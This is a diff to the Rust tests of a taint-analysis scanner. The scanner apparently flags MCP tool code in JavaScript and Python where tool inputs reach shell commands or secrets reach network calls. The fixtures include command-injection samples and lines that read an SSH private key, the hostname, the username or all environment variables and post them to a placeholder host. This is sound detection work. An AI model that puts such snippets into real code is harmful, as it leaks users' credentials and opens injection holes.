@@ -1,10 +1,10 @@
-//! Tests of flows, of names in pieces, and of the languages that are read by words.
+//! Tests of taint propagation, of names in pieces, and of the languages that are read by words.
 
 use super::tests::{read_text, tool_of, view_of};
 use super::*;
 
 /// What reaches the first kept call of a name.
-fn flows_of(path: &str, text: &str, callee: &str) -> TaintedArguments {
+fn taint_of(path: &str, text: &str, callee: &str) -> TaintedArguments {
     let calls = view_of(path, text).calls;
     calls.iter().find(|call| call.callee == callee).map(|call| call.taint).unwrap_or_default()
 }
@@ -23,19 +23,19 @@ fn a_tools_argument_is_followed_to_where_it_is_used() {
     ];
     for text in scripts {
         let text = format!("const {{ exec }} = require('child_process');\n{text}");
-        assert!(flows_of("a.js", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
-        assert!(flows_of("a.mts", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
+        assert!(taint_of("a.js", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
+        assert!(taint_of("a.mts", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
     }
-    let snakes = [
+    let texts = [
         "@mcp.tool()\ndef a(x: str):\n    os.system(f'ls {x}')\n",
         "@log\n@server.tool(name='a')\nasync def a(x: str, ctx: Context):\n    c = 'ls ' + x\n    os.system(c)\n",
         "@server.call_tool()\nasync def a(name, arguments):\n    x = arguments['x']\n    os.system('ls %s' % x)\n",
         "def go(x):\n    os.system(x)\n@mcp.tool\ndef a(x: str):\n    go(x)\n",
         "class A:\n    def go(self, x):\n        os.system(x)\n    @tool\n    def a(self, x: str):\n        self.go(x)\n",
     ];
-    for text in snakes {
+    for text in texts {
         let text = format!("import os\n{text}");
-        assert!(flows_of("a.py", &text, "os.system").first.any(TaintSources::TOOL_INPUT), "{text}");
+        assert!(taint_of("a.py", &text, "os.system").first.any(TaintSources::TOOL_INPUT), "{text}");
     }
 }
 
@@ -49,33 +49,33 @@ fn what_is_bounded_cleaned_or_another_function_is_not_a_tools_argument() {
     ];
     for text in scripts {
         let text = format!("const {{ exec }} = require('child_process');\n{text}");
-        assert!(!flows_of("a.js", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
+        assert!(!taint_of("a.js", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
     }
-    let snake = "import os, shlex\n@mcp.tool()\ndef a(x: str, n: int):\n    os.system(f'ls {shlex.quote(x)} {n}')\n";
-    assert!(!flows_of("a.py", snake, "os.system").first.any(TaintSources::TOOL_INPUT));
+    let python = "import os, shlex\n@mcp.tool()\ndef a(x: str, n: int):\n    os.system(f'ls {shlex.quote(x)} {n}')\n";
+    assert!(!taint_of("a.py", python, "os.system").first.any(TaintSources::TOOL_INPUT));
     let asked = "const { exec } = require('child_process'); s.tool('a', 'b', {}, async ({ x }) => { if (!/^[a-z]+$/.test(x)) return; exec(`ls ${x}`) })";
-    assert!(flows_of("a.js", asked, "child_process.exec").first.any(TaintSources::CHECKED));
+    assert!(taint_of("a.js", asked, "child_process.exec").first.any(TaintSources::CHECKED));
 }
 
 #[test]
 fn a_short_name_of_one_function_says_nothing_in_another() {
     let text = "const fs=require('fs');function a(){var e=fs.readFileSync('/root/.ssh/id_rsa');return 1}function b(e){fetch(e)}";
-    assert_eq!(flows_of("bundle.js", text, "fetch").first, TaintSources::NONE);
+    assert_eq!(taint_of("bundle.js", text, "fetch").first, TaintSources::NONE);
 }
 
 #[test]
 fn secrets_and_names_are_followed_to_the_send() {
-    let script = "const os=require('os');const h=os.hostname(),u=os.userInfo().username;fetch('https://a.test',{method:'POST',body:JSON.stringify({h,u})})";
-    assert_eq!(flows_of("a.js", script, "fetch").rest.count(TaintSources::HOST_NAME | TaintSources::USER_NAME), 2);
+    let javascript = "const os=require('os');const h=os.hostname(),u=os.userInfo().username;fetch('https://a.test',{method:'POST',body:JSON.stringify({h,u})})";
+    assert_eq!(taint_of("a.js", javascript, "fetch").rest.count(TaintSources::HOST_NAME | TaintSources::USER_NAME), 2);
     let hashed = "const os=require('os'),c=require('crypto');fetch('https://a.test/'+c.createHash('sha256').update(os.hostname()).digest('hex'))";
-    assert!(!flows_of("a.js", hashed, "fetch").first.any(TaintSources::HOST_NAME));
-    let snake = "import requests\nfor p in ['/home/a/.ssh/id_rsa']:\n    with open(p) as f:\n        requests.post('https://a.test', data=f.read())\n";
-    assert!(flows_of("a.py", snake, "requests.post").rest.any(TaintSources::SECRET));
+    assert!(!taint_of("a.js", hashed, "fetch").first.any(TaintSources::HOST_NAME));
+    let python = "import requests\nfor p in ['/home/a/.ssh/id_rsa']:\n    with open(p) as f:\n        requests.post('https://a.test', data=f.read())\n";
+    assert!(taint_of("a.py", python, "requests.post").rest.any(TaintSources::SECRET));
     let loops =
         "const d=[];for(const[k,v]of Object.entries(process.env))d.push(k+v);fetch('https://a.test/',{body:d.join()})";
-    assert!(flows_of("a.js", loops, "fetch").rest.any(TaintSources::ENVIRONMENT));
+    assert!(taint_of("a.js", loops, "fetch").rest.any(TaintSources::ENVIRONMENT));
     let one = "const k=process.env.SERVICE_KEY;fetch('https://a.test/',{headers:{k}})";
-    assert!(!flows_of("a.js", one, "fetch").rest.any(TaintSources::ENVIRONMENT));
+    assert!(!taint_of("a.js", one, "fetch").rest.any(TaintSources::ENVIRONMENT));
 }
 
 #[test]
